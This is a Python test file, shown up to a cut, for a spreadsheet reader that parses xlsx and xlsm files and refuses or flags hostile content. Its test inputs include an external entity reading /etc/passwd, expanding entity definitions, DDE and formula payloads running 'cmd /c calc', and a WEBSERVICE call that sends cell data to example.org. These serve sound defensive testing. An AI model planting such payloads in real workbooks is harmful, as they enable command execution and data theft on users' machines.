"""xlsx and xlsm: what is read out of every way to write it, and what is refused."""

from __future__ import annotations

import datetime
import io
import random
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace

import openpyxl
import pytest
import python_calamine
import xlsxwriter

from tests.face import (
    LIMITS,
    Area,
    CellKind,
    Follower,
    RawCell,
    RawWorkbook,
    Unreadable,
    address,
    is_date_format,
    ooxml,
    ooxml_parts,
    parse_area,
)
from tests.intake_files import LINKS, MAIN, STRICT, pack, parts, relationships, sheet, workbook

TEXT, NUMBER, DATE, BOOL = CellKind.TEXT, CellKind.NUMBER, CellKind.DATE, CellKind.BOOL
ERROR, BLANK, NOT_CALCULATED = CellKind.ERROR, CellKind.BLANK, CellKind.NOT_CALCULATED

STRINGS = (
    "<si><t>plain</t></si>"
    '<si><t xml:space="preserve"> spaced </t></si>'
    "<si><r><rPr><b/></rPr><t>rich </t></r><r><t>text</t></r></si>"
    '<si><t>東京</t><rPh sb="0" eb="2"><t>トウキョウ</t></rPh><phoneticPr fontId="1"/></si>'
    "<si><t>a &lt; b &amp;amp; c&#x2026;</t></si>"
    "<si><t>_x0041__x005F_x0042__xD83D__xDE00_</t></si>"
    "<si><t/></si>"
)


def cells(read: RawWorkbook, index: int = 0) -> dict[str, RawCell]:
    return {
        address(row, column): cell
        for row, row_cells in read.sheets[index].cells.items()
        for column, cell in row_cells.items()
    }


def codes(read: RawWorkbook) -> list[tuple[str, str | None, str | None]]:
    return [(observation.code, observation.sheet, observation.cell) for observation in read.observations]


def refusal(data: bytes, **changes: int) -> str:
    with pytest.raises(Unreadable) as caught:
        ooxml.read(data, replace(LIMITS, **changes))
    return caught.value.observation.code


ROWS = {
    "shared text": ('<row r="1"><c r="B1" t="s"><v>0</v></c></row>', {"B1": RawCell(TEXT, "plain")}),
    "spaces kept": ('<row r="1"><c r="A1" t="s"><v>1</v></c></row>', {"A1": RawCell(TEXT, " spaced ")}),
    "rich text joined": ('<row r="1"><c r="A1" t="s"><v>2</v></c></row>', {"A1": RawCell(TEXT, "rich text")}),
    "phonetic left out": ('<row r="1"><c r="A1" t="s"><v>3</v></c></row>', {"A1": RawCell(TEXT, "東京")}),
    "references": ('<row r="1"><c r="A1" t="s"><v>4</v></c></row>', {"A1": RawCell(TEXT, "a < b &amp; c…")}),
    "escapes": ('<row r="1"><c r="A1" t="s"><v>5</v></c></row>', {"A1": RawCell(TEXT, "A_x0042_😀")}),
    "empty shared text": ('<row r="1"><c r="A1" t="s"><v>6</v></c></row>', {"A1": RawCell(TEXT, "")}),
    "inline text": (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>in &gt; line</t></is></c></row>',
        {"A1": RawCell(TEXT, "in > line")},
    ),
    "inline rich text": (
        '<row r="1"><c r="A1" t="inlineStr"><is><r><t>a</t></r><rPh sb="0" eb="1"><t>x</t></rPh>'
        "<r><t>b</t></r></is></c></row>",
        {"A1": RawCell(TEXT, "ab")},
    ),
    "truth": (
        '<row r="1"><c r="A1" t="b"><v>1</v></c><c r="B1" t="b"><v>0</v></c></row>',
        {"A1": RawCell(BOOL, True), "B1": RawCell(BOOL, False)},
    ),
    "error": ('<row r="1"><c r="A1" t="e"><v>#REF!</v></c></row>', {"A1": RawCell(ERROR, "#REF!")}),
    "numbers": (
        '<row r="1"><c r="A1"><v>12</v></c><c r="B1" t="n"><v>-1.5E-3</v></c><c r="C1"><v>0</v></c></row>',
        {"A1": RawCell(NUMBER, 12.0), "B1": RawCell(NUMBER, -0.0015), "C1": RawCell(NUMBER, 0.0)},
    ),
    "blank for its format": ('<row r="2"><c r="C2" s="1"/></row>', {"C2": RawCell(BLANK, None)}),
    "blank, long form": ('<row r="2"><c r="C2" s="1"></c></row>', {"C2": RawCell(BLANK, None)}),
    "cached formula": (
        '<row r="1"><c r="A1"><f>B1&amp;"x"+1</f><v>3</v></c></row>',
        {"A1": RawCell(NUMBER, 3.0, 'B1&"x"+1')},
    ),
    "formula with equals sign": (
        '<row r="1"><c r="A1"><f>=1+1</f><v>2</v></c></row>',
        {"A1": RawCell(NUMBER, 2.0, "1+1")},
    ),
    "formula without result": (
        '<row r="1"><c r="A1"><f>1+1</f></c><c r="B1"><f>1+1</f><v></v></c><c r="C1"><f>1+1</f><v/></c>'
        '<c r="D1" t="str"><f>1+1</f></c></row>',
        dict.fromkeys(("A1", "B1", "C1", "D1"), RawCell(NOT_CALCULATED, None, "1+1")),
    ),
    "formula with empty text": (
        '<row r="1"><c r="A1" t="str"><f>B1</f><v></v></c></row>',
        {"A1": RawCell(TEXT, "", "B1")},
    ),
    "formula with text, error, truth": (
        '<row r="1"><c r="A1" t="str"><f>B1</f><v>_x0041_</v></c><c r="B1" t="e"><f>1/0</f><v>#DIV/0!</v></c>'
        '<c r="C1" t="b"><f>TRUE()</f><v>1</v></c><c r="D1" t="s"><f>B1</f><v>0</v></c></row>',
        {
            "A1": RawCell(TEXT, "A", "B1"),
            "B1": RawCell(ERROR, "#DIV/0!", "1/0"),
            "C1": RawCell(BOOL, True, "TRUE()"),
            "D1": RawCell(TEXT, "plain", "B1"),
        },
    ),
    "shared formula": (
        '<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">B1+1</f><v>1</v></c></row>'
        '<row r="2"><c r="A2"><f t="shared" si="0"/><v>2</v></c></row>',
        {"A1": RawCell(NUMBER, 1.0, "B1+1"), "A2": RawCell(NUMBER, 2.0, Follower("0"))},
    ),
    "array formula": (
        '<row r="1"><c r="A1"><f t="array" ref="A1:A2">B1:B2</f><v>1</v></c></row>'
        '<row r="2"><c r="A2"><v>2</v></c><c r="B2"><v>3</v></c></row>',
        {"A1": RawCell(NUMBER, 1.0, "B1:B2"), "A2": RawCell(NUMBER, 2.0, ""), "B2": RawCell(NUMBER, 3.0)},
    ),
    "dates by format": (
        '<row r="1"><c r="A1" s="1"><v>45325</v></c><c r="B1" s="2"><v>0</v></c><c r="C1" s="3"><v>1.25</v></c>'
        '<c r="D1" s="2"><f>TODAY()</f><v>60.5</v></c></row>',
        {
            "A1": RawCell(DATE, 45325.0),
            "B1": RawCell(DATE, 0.0),
            "C1": RawCell(DATE, 1.25),
            "D1": RawCell(DATE, 60.5, "TODAY()"),
        },
    ),
    "not dates": (
        '<row r="1"><c r="A1" s="0"><v>1</v></c><c r="B1" s="4"><v>2</v></c><c r="C1" s="5"><v>3</v></c>'
        '<c r="D1" s="99"><v>4</v></c><c r="E1" s="1" t="str"><v>x</v></c></row>',
        {
            "A1": RawCell(NUMBER, 1.0),
            "B1": RawCell(NUMBER, 2.0),
            "C1": RawCell(NUMBER, 3.0),
            "D1": RawCell(NUMBER, 4.0),
            "E1": RawCell(TEXT, "x"),
        },
    ),
    "ISO dates": (
        '<row r="1"><c r="A1" t="d"><v>2024-02-03</v></c><c r="B1" t="d"><v>1900-01-01T12:00:00</v></c>'
        '<c r="C1" t="d"><v>1900-03-01T00:00:00.000</v></c><c r="D1" t="d"><v>T06:00:00</v></c>'
        '<c r="E1" t="d"><v>2024-02-03T18:00:00Z</v></c></row>',
        {
            "A1": RawCell(DATE, 45325.0),
            "B1": RawCell(DATE, 1.5),
            "C1": RawCell(DATE, 61.0),
            "D1": RawCell(DATE, 0.25),
            "E1": RawCell(DATE, 45325.75),
        },
    ),
    "no references": (
        "<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>"
        '<row r="7"><c r="C7"><v>4</v></c><c><v>5</v></c></row><row><c><v>6</v></c></row>',
        {
            name: RawCell(NUMBER, float(number))
            for number, name in enumerate(("A1", "B1", "A2", "C7", "D7", "A8"), start=1)
        },
    ),
    "out of order": (
        '<row r="5"><c r="B5"><v>1</v></c><c r="A5"><v>2</v></c></row><row r="3"><c r="A3"><v>3</v></c></row>',
        {"A3": RawCell(NUMBER, 3.0), "A5": RawCell(NUMBER, 2.0), "B5": RawCell(NUMBER, 1.0)},
    ),
    "far away": (
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        {"XFD1048576": RawCell(NUMBER, 1.0)},
    ),
    "other order, other attributes": (
        '<row spans="1:3" r="1" customHeight="1"><c t="s" s="2" r="A1" cm="1"><v>0</v></c></row>',
        {"A1": RawCell(TEXT, "plain")},
    ),
    "cell with its reference last": (
        '<row r="1"><c r="A1"><v>1</v></c><c s="1" r="B1"/><c r="C1"><v>3</v></c></row>',
        {"A1": RawCell(NUMBER, 1.0), "B1": RawCell(BLANK, None), "C1": RawCell(NUMBER, 3.0)},
    ),
    "cell without reference in a plain row": (
        '<row r="1"><c r="A1"><v>1</v></c><c><v>2</v></c><c r="c1"><v>3</v></c></row>',
        {"A1": RawCell(NUMBER, 1.0), "B1": RawCell(NUMBER, 2.0), "C1": RawCell(NUMBER, 3.0)},
    ),
    "comment and CDATA inside": (
        '<row r="1"><!-- <c r="B1"><v>9</v></c> --><c r="A1" t="str"><v><![CDATA[a<b]]></v></c></row>',
        {"A1": RawCell(TEXT, "a<b")},
    ),
    "laid out with line breaks": (
        '\n <row r="1">\n  <c r="A1" t="str">\n   <v>x</v>\n  </c>\n </row>\n',
        {"A1": RawCell(TEXT, "x")},
    ),
    "carriage return as XML has it": (
        '<row r="1"><c r="A1" t="str"><v>a\r\nb&#13;c</v></c></row>',
        {"A1": RawCell(TEXT, "a\nb\rc")},
    ),
    "nothing": ('<row r="4"/><row r="5"></row>', {}),
}


@pytest.mark.parametrize(("rows", "expected"), ROWS.values(), ids=ROWS.keys())
def test_rows_are_read_whatever_way_they_are_written(
    way: str, rows: str, expected: dict[str, RawCell]
) -> None:
    read = ooxml.read(workbook(sheet(rows), strings=STRINGS))
    assert list(cells(read).items()) == list(expected.items())
    assert read.observations == []


def test_strict_workbooks_and_prefixes_read_like_any_other() -> None:
    rows = '<row r="1"><c r="A1" t="s"><v>2</v></c><c r="B1" s="1"><v>5</v></c></row>'
    expected = {"A1": RawCell(TEXT, "rich text"), "B1": RawCell(DATE, 5.0)}
    strict = workbook(sheet(rows, namespace=STRICT), strings=STRINGS, strict=True)
    prefixed = sheet(rows).replace("<", "<p:").replace("<p:/", "</p:").replace("xmlns=", "xmlns:p=")
    assert cells(ooxml.read(strict)) == expected
    assert cells(ooxml.read(workbook(prefixed, strings=STRINGS))) == expected
    utf16 = sheet(rows).encode("utf-16")
    assert cells(ooxml.read(workbook(utf16, strings=STRINGS))) == expected


def test_days_are_counted_from_1900_in_a_workbook_of_1904_too() -> None:
    """Not so a time without a day, and what no format calls a day."""
    rows = (
        '<row r="1"><c r="A1" t="d"><v>1904-01-02</v></c><c r="B1" s="1"><v>1</v></c><c r="C1" s="1"><v>.5</v></c>'
        '<c r="D1"><v>1</v></c></row>'
    )
    read = ooxml.read(workbook(sheet(rows), workbook='<workbookPr date1904="1"/>'))
    assert read.epoch_1904
    assert cells(read) == {
        "A1": RawCell(DATE, 1463.0), "B1": RawCell(DATE, 1463.0), "C1": RawCell(DATE, 0.5), "D1": RawCell(NUMBER, 1.0),
    }  # fmt: skip


DAMAGED_CELLS = {
    "letters in a number": ("<v>12,5,3</v>", ""),
    "underscore": ("<v>1_000</v>", ""),
    "not a number": ("<v>nan</v>", ""),
    "beyond all numbers": ("<v>1e999</v>", ""),
    "Arabic digits": ("<v>٣</v>", ""),
    "unknown truth": ("<v>yes</v>", ' t="b"'),
    "shared text that is not there": ("<v>99</v>", ' t="s"'),
    "negative shared text": ("<v>-1</v>", ' t="s"'),
    "unknown type": ("<v>1</v>", ' t="zz"'),
    "no such day": ("<v>2024-02-30</v>", ' t="d"'),
    "before the calendar": ("<v>1899-12-31</v>", ' t="d"'),
}


@pytest.mark.parametrize(("value", "attributes"), DAMAGED_CELLS.values(), ids=DAMAGED_CELLS.keys())
def test_a_value_that_does_not_fit_is_never_guessed(way: str, value: str, attributes: str) -> None:
    rows = f'<row r="7"><c r="D7"{attributes}>{value}</c><c r="E7"><v>1</v></c></row>'
    for _ in range(2):
        read = ooxml.read(workbook(sheet(rows), strings=STRINGS))
        assert cells(read) == {"D7": RawCell(ERROR, "#UNREADABLE!"), "E7": RawCell(NUMBER, 1.0)}
        assert codes(read) == [("F040", "S1", "D7")]


TWICE = {
    "in one row": '<row r="2"><c r="B2"><v>1</v></c><c r="B2"><v>2</v></c></row>',
    "after another": '<row r="2"><c r="B2"><v>1</v></c><c r="C2"/><c r="B2"><v>2</v></c></row>',
    "in a second row": '<row r="2"><c r="B2"><v>1</v></c></row><row r="2"><c r="B2"><v>2</v></c></row>',
}


@pytest.mark.parametrize("rows", TWICE.values(), ids=TWICE.keys())
def test_a_cell_stored_twice_is_named_and_keeps_its_first_value(rows: str) -> None:
    read = ooxml.read(workbook(sheet(rows)))
    assert cells(read)["B2"] == RawCell(NUMBER, 1.0)
    assert codes(read) == [("F048", "S1", "B2")]


def test_many_damaged_cells_are_a_damaged_file() -> None:
    row = "".join(f'<row r="{row}"><c r="A{row}"><v>?</v></c></row>' for row in range(1, 102))
    assert refusal(workbook(sheet(row))) == "F029"
    assert len(ooxml.read(workbook(sheet(row)), replace(LIMITS, unreadable_places=101)).observations) == 101


def test_validation_rules_of_both_kinds() -> None:
    after = (
        '<dataValidations count="2"><dataValidation type="list" showErrorMessage="1" sqref="B2:B9 D2">'
        "<formula1>Lists!$A$1:$A$3</formula1></dataValidation>"
        '<dataValidation type="whole" operator="greaterThan" errorStyle="warning" showErrorMessage="1" sqref="C:C">'
        "<formula1>0</formula1><formula2>9</formula2></dataValidation></dataValidations>"
        "<extLst><ext><x14:dataValidations><x14:dataValidation type='list' showErrorMessage='true'>"
        "<x14:formula1><xm:f>'L &amp; M'!$A$1</xm:f></x14:formula1><xm:sqref>E5 F1:G2</xm:sqref>"
        "</x14:dataValidation></x14:dataValidations></ext></extLst>"
    )
    rules = ooxml.read(workbook(sheet(after=after))).sheets[0].validations
    assert [(rule.type, rule.formula1) for rule in rules] == [
        ("list", "Lists!$A$1:$A$3"),
        ("whole", "0"),
        ("list", "'L & M'!$A$1"),
    ]
    assert [rule.areas for rule in rules] == [
        (Area(2, 2, 9, 2), Area(2, 4, 2, 4)),
        (Area(1, 3, 1_048_576, 3),),
        (Area(5, 5, 5, 5), Area(1, 6, 2, 7)),
    ]
    assert [rule.blocks for rule in rules] == [True, False, True]


def test_what_surrounds_the_cells() -> None:
    before = '<sheetPr filterMode="0"/><cols><col min="2" max="4" hidden="1"/><col min="6" max="6" width="9"/></cols>'
    rows = (
        '<row r="3" hidden="1"><c r="A3"><v>1</v></c></row><row r="4" hidden="true"/><row r="5" hidden="0"/>'
    )
    after = (
        '<sheetProtection sheet="1" objects="1"/><autoFilter ref="A1:B9"/>'
        '<mergeCells><mergeCell ref="A1:B2"/></mergeCells>'
    )
    only = ooxml.read(workbook(sheet(rows, before, after))).sheets[0]
    assert only.hidden_columns == [(2, 4)]
    assert only.hidden_rows == {3, 4}
    assert only.protected
    assert only.merges == [Area(1, 1, 2, 2)]


def test_a_table_that_cannot_be_read_is_told() -> None:
    table = f'<table xmlns="{MAIN}"><autoFilter ref="A1"/></table>'
    changes = {
        "xl/worksheets/_rels/sheet1.xml.rels": relationships(("rId1", "table", "../tables/table1.xml")),
        "xl/tables/table1.xml": table,
    }
    assert codes(ooxml.read(workbook(sheet(), changes=changes))) == []
    damaged = ooxml.read(workbook(sheet(), changes={**changes, "xl/tables/table1.xml": table[:90]}))
    assert codes(damaged) == [("F045", "S1", None)]


def test_names_properties_states_and_formats() -> None:
    book = (
        "<definedNames><definedName name='whole'>S1!$A$1</definedName>"
        "<definedName name='local' localSheetId='0'>S1!$B$1</definedName></definedNames>"
    )
    properties = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="v">'
        '<property name="team"><vt:lpwstr>PAK &amp; co</vt:lpwstr></property>'
        '<property name="copy"><vt:i4>7</vt:i4></property></Properties>'
    )
    link = f'<Relationship Id="c" Type="{LINKS}/custom-properties" Target="docProps/custom.xml"/>'
    contents = parts(sheet(), sheet(), workbook=book, links=link, changes={"docProps/custom.xml": properties})
    contents["xl/workbook.xml"] = str(contents["xl/workbook.xml"]).replace(
        'name="S2"', 'name="Stamp" state="veryHidden"'
    )
    read = ooxml.read(pack(contents))
    assert read.defined_names == {"whole": "S1!$A$1"}
    assert read.properties == {"team": "PAK & co", "copy": "7"}
    assert [(each.name, each.state) for each in read.sheets] == [("S1", "visible"), ("Stamp", "veryHidden")]
    assert read.format == "xlsx"


def test_notes_and_threaded_comments() -> None:
    notes = (
        f'<comments xmlns="{MAIN}"><authors><author>x</author></authors><commentList>'
        '<comment ref="C3"><text><r><t>first </t></r><r><t>note</t></r></text></comment>'
        '<comment ref="B2"><text><t>[Threaded comment] …</t></text></comment></commentList></comments>'
    )
    threaded = (
        '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
        '<threadedComment ref="B2"><text>Why 5?</text></threadedComment></ThreadedComments>'
    )
    links = relationships(
        ("rId1", "comments", "../comments1.xml"),
        (
            "rId2",
            "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment",
            "../threaded.xml",
        ),
    )
    changes = {
        "xl/worksheets/_rels/sheet1.xml.rels": links,
        "xl/comments1.xml": notes,
        "xl/threaded.xml": threaded,
    }
    read = ooxml.read(workbook(sheet(), changes=changes))
    assert read.sheets[0].comments == [(2, 2, "Why 5?"), (3, 3, "first note")]
    damaged = ooxml.read(workbook(sheet(), changes={**changes, "xl/comments1.xml": notes[:90]}))
    assert damaged.sheets[0].comments == [(2, 2, "Why 5?")]
    assert codes(damaged) == [("F045", "S1", None)]


def external_link(inner: str) -> dict[str, str]:
    return {
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{LINKS}">{inner}</externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
            more=f'<Relationship Id="rId1" Type="{LINKS}/externalLinkPath" '
            'Target="file:///C:\\Users\\someone\\budget.xlsx" TargetMode="External"/>'
        ),
    }


def override(part: str, content_type: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{content_type}"/>'


EXTERNAL = override(
    "xl/externalLinks/externalLink1.xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
)
FOREIGN = {
    "macros": (
        override("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        {"xl/vbaProject.bin": "x"},
        "F041",
        "xl/vbaProject.bin",
    ),
    "other workbook": (EXTERNAL, external_link('<externalBook r:id="rId1"/>'), "F042", "budget.xlsx"),
    "connection": (
        override(
            "xl/connections.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
        ),
        {"xl/connections.xml": "<x/>"},
        "F042",
        "xl/connections.xml",
    ),
    "DDE": (EXTERNAL, external_link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "F044", "cmd"),
    "embedded": ("", {"xl/embeddings/oleObject1.bin": "x"}, "F047", "xl/embeddings/oleObject1.bin"),
}


@pytest.mark.parametrize(("types", "changes", "code", "what"), FOREIGN.values(), ids=FOREIGN.keys())
def test_foreign_content_is_named_and_the_values_are_read(
    types: str, changes: dict[str, str], code: str, what: str
) -> None:
    rows = '<row r="1"><c r="A1"><v>1</v></c></row>'
    read = ooxml.read(workbook(sheet(rows), types=types, changes=changes))
    assert [(observation.code, observation.details["what"]) for observation in read.observations] == [
        (code, what)
    ]
    assert cells(read) == {"A1": RawCell(NUMBER, 1.0)}


OUTSIDE = {
    "[1]Sheet1!A1": True,
    "'[budget.xlsx]My sheet'!A1+1": True,
    "cmd|'/c calc'!A0": True,
    'WEBSERVICE("http://example.org/"&amp;A1)': True,
    "Table1[[#This Row],[2020]]+Sheet2!A1": False,
    'IF(A1="[1]x!","|!","")': False,
    "RECALL(1)": False,
}


@pytest.mark.parametrize(("formula", "outside"), OUTSIDE.items(), ids=OUTSIDE)
def test_formulas_that_reach_outside_are_named_by_cell(way: str, formula: str, outside: bool) -> None:
    rows = f'<row r="4"><c r="A4"><v>0</v></c><c r="C4"><f>{formula}</f><v>5</v></c></row>'
    assert codes(ooxml.read(workbook(sheet(rows)))) == ([("F043", "S1", "C4")] if outside else [])


def test_macro_workbooks_are_read_as_values() -> None:
    contents = parts(sheet('<row r="1"><c r="A1"><v>1</v></c></row>'))
    contents["[Content_Types].xml"] = str(contents["[Content_Types].xml"]).replace(
        "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main", "vnd.ms-excel.sheet.macroEnabled.main"
    )
    read = ooxml.read(pack(contents))
    assert read.format == "xlsm"
    assert cells(read) == {"A1": RawCell(NUMBER, 1.0)}


def test_chart_sheets_keep_their_place_among_the_tabs() -> None:
    contents = parts(sheet(), sheet('<row r="1"><c r="A1"><v>1</v></c></row>'))
    links = str(contents["xl/_rels/workbook.xml.rels"]).replace("/worksheet", "/chartsheet", 1)
    contents["xl/_rels/workbook.xml.rels"] = links
    read = ooxml.read(pack(contents))
    assert [(each.name, len(each.cells)) for each in read.sheets] == [("S1", 0), ("S2", 1)]


DEEP = "<a>" * 63 + "</a>" * 63
WIDE = "<a " + " ".join(f'a{number}=""' for number in range(257)) + "/>"
DTD = '<!DOCTYPE worksheet [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
GOOD_ROW = '<row r="1"><c r="A1"><v>1</v></c></row>'
REFUSED = {
    "entities": (DTD + sheet(GOOD_ROW.replace("1</v>", "&b;</v>")), "F020"),
    "outside entity": (
        '<!DOCTYPE worksheet [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        + sheet(GOOD_ROW.replace("1</v>", "&a;</v>")),
        "F020",
    ),
    "bare DTD": ("<!DOCTYPE worksheet>" + sheet(GOOD_ROW), "F020"),
    "too deep": (sheet(after=f"<a>{DEEP}</a>"), "F021"),
    "too deep in a cell": (sheet(f'<row r="1"><c r="A1">{DEEP}</c></row>'), "F021"),
    "too many attributes": (sheet(WIDE), "F022"),
    "cut off": (sheet(GOOD_ROW)[:-30], "F024"),
    "wrong nesting": (sheet(GOOD_ROW.replace("</c>", "</d>")), "F024"),
    "control character": (sheet('<row r="1"><c r="A1" t="str"><v>a\x01b</v></c></row>'), "F024"),
    "unknown entity": (sheet('<row r="1"><c r="A1" t="str"><v>&nbsp;</v></c></row>'), "F024"),
    "empty part": ("", "F024"),
    "not in its encoding": (
        sheet('<row r="1"><c r="A1" t="str"><v>é</v></c></row>').encode("latin-1"),
        "F025",
    ),
    "another encoding": ('<?xml version="1.0" encoding="windows-1252"?>' + sheet(GOOD_ROW), "F025"),
    "unknown encoding": ('<?xml version="1.0" encoding="klingon"?>' + sheet(GOOD_ROW), "F025"),
    "another root": (f'<sst xmlns="{MAIN}"/>', "F029"),
    "another namespace": (sheet(GOOD_ROW, namespace="urn:else"), "F029"),
    "cell in another row": (sheet('<row r="1"><c r="A2"><v>1</v></c></row>'), "F034"),
    "cell outside a row": (sheet('<row r="1"/><c r="A1"><v>1</v></c>'), "F034"),
    "row 0": (sheet('<row r="0"/>'), "F036"),
    "row beyond the last": (sheet('<row r="1048577"><c r="A1048577"><v>1</v></c></row>'), "F036"),
    "column beyond the last": (sheet('<row r="1"><c r="XFE1"><v>1</v></c></row>'), "F034"),
    "no reference": (sheet('<row r="1"><c r="Total"><v>1</v></c></row>'), "F034"),
}


@pytest.mark.parametrize(("part", "code"), REFUSED.values(), ids=REFUSED.keys())
def test_hostile_and_damaged_sheets_are_refused(way: str, part: str | bytes, code: str) -> None:
    assert refusal(workbook(sheet(), changes={"xl/worksheets/sheet1.xml": part})) == code


@pytest.mark.parametrize("reference", ["A0", "ZZZZ1", "1A", "", "A2", "A1:B2", "A1048577", "XFE1"])
def test_a_cell_that_stands_nowhere_is_named(way: str, reference: str) -> None:
    rows = f'<row r="1"><c r="A1"><v>1</v></c>\n<c r="{reference}"><v>2</v></c></row>'
    with pytest.raises(Unreadable) as caught:
        ooxml.read(workbook(sheet(rows)))
    found = caught.value.observation
    place = {"part": "xl/worksheets/sheet1.xml", "line": "2", "column": "5"} | {
        "value": reference,
        "row": "1",
    }
    assert (found.code, found.sheet) == ("F034", "S1")
    assert {name: found.details[name] for name in place if name != "column"} == {
        name: text for name, text in place.items() if name != "column"
    }
    assert int(found.details["column"]) > 1


@pytest.mark.parametrize("number", ["0", "1048577", "x", "-1", "99999999999999999999", "1.5"])
def test_a_row_that_cannot_be_is_named(way: str, number: str) -> None:
    with pytest.raises(Unreadable) as caught:
        ooxml.read(workbook(sheet(f'\n\n<row r="{number}"><c><v>2</v></c></row>')))
    found = caught.value.observation
    assert (found.code, found.sheet, found.details["value"], found.details["line"]) == (
        "F036",
        "S1",
        number,
        "3",
    )


def nested(element: str, levels: int) -> str:
    return f"<{element}>" * levels + f"</{element}>" * levels


@pytest.mark.parametrize(
    ("strings", "code"),
    [
        (f"<si>{nested('r', 63)}</si>", "F021"),
        (f"<si><r><t>a</t></r>{nested('rPr', 100_000)}</si>", "F021"),
        (f"<si>{WIDE.replace('<a ', '<r ')}</si>", "F022"),
        (f"<si>{WIDE.replace('<a ', '<r ').replace(chr(34), chr(39))}</si>", "F022"),
        (f"<si>{nested('r', 62)}</si>", None),
    ],
    ids=["deep", "very deep", "wide", "wide in single quotes", "just within"],
)
def test_shared_texts_have_the_limits_of_every_part(way: str, strings: str, code: str | None) -> None:
    data = pack(parts(sheet(GOOD_ROW), strings=strings), zipfile.ZIP_STORED)
    if code is None:
        assert len(cells(ooxml.read(data))) == 1
    else:
        assert refusal(data) == code


@pytest.mark.parametrize(
    "part",
    ["xl/styles.xml", "xl/workbook.xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"],
)
@pytest.mark.parametrize(("inner", "code"), [(f"<a>{DEEP}</a>", "F021"), (WIDE, "F022"), (DTD, "F024")])
def test_every_part_has_the_same_limits(part: str, inner: str, code: str) -> None:
    contents = parts(sheet(GOOD_ROW))
    head, end, tail = str(contents[part]).rpartition("</")
    assert refusal(pack(contents | {part: f"{head}{inner}{end}{tail}"})) == code


def test_too_many_elements_are_refused_before_they_are_parsed() -> None:
    contents = parts(sheet(after="<a/>" * 3_000_000))
    assert refusal(pack(contents, zipfile.ZIP_STORED)) == "F023"


def test_just_within_the_limits_is_read() -> None:
    part = sheet(GOOD_ROW, after="<a>" * 63 + "</a>" * 63 + WIDE.replace(' a256=""', ""))
    assert len(cells(ooxml.read(workbook(part)))) == 1


def test_limits_on_cells_and_sheets() -> None:
    cells_of_a_row = "".join(f'<c r="{name}1"/>' for name in "ABCDEFGHIJ")
    part = sheet(f'<row r="1">{cells_of_a_row}</row>')
    assert refusal(workbook(part), cells=9) == "F027"
    assert refusal(workbook(part, part), cells=19) == "F027"
    assert len(cells(ooxml.read(workbook(part), replace(LIMITS, cells=10)))) == 10
    assert refusal(workbook(*[sheet()] * 257)) == "F028"
    assert len(ooxml.read(workbook(*[sheet()] * 256)).sheets) == 256


def test_stray_rows_cost_nothing() -> None:
    rows = "".join(f'<row r="{row}"/>' for row in range(1, 200_001))
    read = ooxml.read(workbook(sheet(rows + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>')))
    assert cells(read) == {"A1048576": RawCell(NUMBER, 1.0)}


PACKAGE_FAULTS = {
    "no content types": ({"[Content_Types].xml": None}, "F026"),
    "no way in": ({"_rels/.rels": None}, "F026"),
    "no workbook": ({"xl/workbook.xml": None}, "F026"),
    "no sheet": ({"xl/worksheets/sheet1.xml": None}, "F026"),
    "no links": ({"xl/_rels/workbook.xml.rels": None}, "F026"),
    "no texts": ({"xl/sharedStrings.xml": None}, "F026"),
    "damaged texts": ({"xl/sharedStrings.xml": "<sst"}, "F024"),
    "texts that are none": ({"xl/sharedStrings.xml": "<x/>"}, "F029"),
    "entities in the texts": ({"xl/sharedStrings.xml": f'<!DOCTYPE sst><sst xmlns="{MAIN}"/>'}, "F020"),
    "damaged styles": ({"xl/styles.xml": "<styleSheet>"}, "F024"),
    "no sheets": ({"xl/workbook.xml": f'<workbook xmlns="{MAIN}"><sheets/></workbook>'}, "F035"),
}


@pytest.mark.parametrize(("changes", "code"), PACKAGE_FAULTS.values(), ids=PACKAGE_FAULTS.keys())
def test_faults_of_the_package_are_refused(changes: dict[str, str | None], code: str) -> None:
    assert refusal(workbook(sheet(GOOD_ROW), changes=changes)) == code


def test_two_sheets_of_one_name_are_refused() -> None:
    contents = parts(sheet(), sheet())
    contents["xl/workbook.xml"] = str(contents["xl/workbook.xml"]).replace('"S2"', '"s1"')
    assert refusal(pack(contents)) == "F037"


def test_settings_that_name_no_cells_are_left_out_with_a_remark() -> None:
    after = (
        '<mergeCells><mergeCell ref="A0:B"/></mergeCells>'
        '<dataValidations><dataValidation sqref="?"/></dataValidations>'
    )
    read = ooxml.read(workbook(sheet(GOOD_ROW, after=after)))
    assert [(observation.code, str(observation.details["what"])) for observation in read.observations] == [
        ("F049", "merged cells"),
        ("F049", "a dropdown or another entry rule"),
    ]


@pytest.mark.parametrize(
    ("reference", "area"),
    [
        ("B7", Area(7, 2, 7, 2)),
        ("$B$7:A$1", Area(1, 1, 7, 2)),
        ("B:C", Area(1, 2, 1_048_576, 3)),
        ("$2:$9", Area(2, 1, 9, 16_384)),
        ("A0", None),
        ("B", None),
        ("A1:", None),
        ("A1:B", None),
        ("XFE1", None),
    ],
)
def test_references(reference: str, area: Area | None) -> None:
    assert parse_area(reference) == area


@pytest.mark.parametrize(
    ("code", "is_date"),
    [
        ("General", False),
        ("yyyy\\-mm\\-dd", True),
        ("[$-409]d/m/yy h:mm AM/PM;@", True),
        ("[mm]:ss", True),
        ("#,##0.00 [$kr-414]", False),
        ("0.00E+00", False),
        ('"Day "0', False),
        ("0\\d", False),
        ("[Red]0;[Blue]0", False),
        ("_-* #,##0_s", False),
